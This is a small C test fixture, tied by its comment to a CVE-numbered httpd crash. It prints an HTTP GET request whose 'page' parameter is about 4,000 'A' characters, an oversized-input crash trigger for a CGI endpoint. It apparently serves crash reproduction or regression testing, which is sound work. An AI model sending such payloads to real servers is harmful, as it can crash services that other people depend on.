/* CVE-2021-29555 related httpd crash (inert fixture). */
#include <stdio.h>
#include <string.h>

int main(int argc, char **argv) {
    char payload[4096];
    memset(payload, 'A', sizeof(payload) - 1);
    payload[sizeof(payload) - 1] = 0;
    printf("GET /cgi-bin/view?page=%s HTTP/1.0\r\n\r\n", payload);
    return argc > 1 ? 0 : 1;
}
